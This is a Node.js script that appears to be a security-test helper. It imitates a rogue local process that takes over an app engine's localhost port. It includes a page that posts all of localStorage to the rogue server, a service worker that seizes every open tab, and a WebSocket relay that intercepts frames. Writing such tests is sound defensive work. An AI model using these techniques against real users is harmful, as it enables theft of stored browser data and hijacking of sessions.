// A process of another account that takes the port of an ended engine and imitates the engine.
// Arguments: the port, and `play` (answer everything), `page` (serve a page that takes what the
// browser stores, and leaves a service worker) or `relay` (pass every frame on to an engine,
// whose port comes on stdin). Prints each request and frame that it receives as a line of JSON.
import { createServer } from 'node:http'
import { WebSocket, WebSocketServer } from 'ws'

const [, , port, part] = process.argv
const tell = (what, told) => process.stdout.write(`${JSON.stringify({ what, told })}\n`)

let to = port
process.stdin.on('data', (bytes) => (to = bytes.toString().trim()))

const server = createServer((request, response) => {
  const chunks = []
  request.on('data', (chunk) => chunks.push(chunk))
  request.on('end', () => {
    tell('request', {
      method: request.method,
      url: request.url,
      headers: request.headers,
      body: Buffer.concat(chunks).toString('latin1'),
    })
    if (part === 'page') return servePage(request, response)
    const isScript = /\.m?js/.test(request.url ?? '')
    response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'application/json' })
    response.end(isScript ? 'document.title = "TAKEN OVER"' : '{}')
  })
})

const PAGE = `<!doctype html><title>ROGUE</title><script>
navigator.serviceWorker.register('/worker.js')
fetch('/taken', { method: 'POST', body: JSON.stringify({ ...localStorage }) })
</script>`
/** Takes over every open tab of this origin at once, and answers all that they load. */
const WORKER = `
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  const isScript = event.request.destination === 'script'
  const headers = { 'content-type': isScript ? 'text/javascript' : 'text/html' }
  event.respondWith(new Response(isScript ? 'document.title = "TAKEN OVER"' : 'ROGUE', { headers }))
})`

function servePage({ url }, response) {
  const isWorker = url === '/worker.js'
  response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' })
  response.end(isWorker ? WORKER : PAGE)
}

const sockets = new WebSocketServer({ noServer: true, handleProtocols: (protocols) => [...protocols][0] })
server.on('upgrade', (request, stream, head) => {
  tell('upgrade', request.headers)
  sockets.handleUpgrade(request, stream, head, (socket) => (part === 'play' ? play(socket) : relay(socket)))
})

function play(socket) {
  socket.on('message', (bytes) => {
    const text = bytes.toString()
    tell('frame', text)
    const { nonce, proof, id, call } = JSON.parse(text)
    if (nonce !== undefined) socket.send(JSON.stringify({ nonce: '0'.repeat(64), proof: '0'.repeat(64) }))
    else if (proof !== undefined) socket.send(JSON.stringify({ welcome: true }))
    else if (call === 'home.status')
      socket.send(JSON.stringify({ id, value: { state: 'locked', keyring: 'passphrase' } }))
    else socket.send(JSON.stringify({ id, value: null }))
  })
}

function relay(socket) {
  const host = `127.0.0.1:${to}`
  const engine = new WebSocket(`ws://${host}/engine`, ['fumikura.3'], { origin: `http://${host}` })
  const waiting = []
  socket.on('message', (bytes) => {
    tell('frame', bytes.toString())
    if (engine.readyState === WebSocket.OPEN) engine.send(bytes.toString())
    else waiting.push(bytes.toString())
  })
  engine.on('open', () => waiting.splice(0).forEach((text) => engine.send(text)))
  engine.on('message', (bytes) => {
    tell('relayed', bytes.toString())
    socket.send(bytes.toString())
  })
  engine.on('error', (error) => tell('engine', error.message))
  engine.on('close', () => socket.close())
}

server.listen(Number(port), '127.0.0.1', () => tell('listening', port))
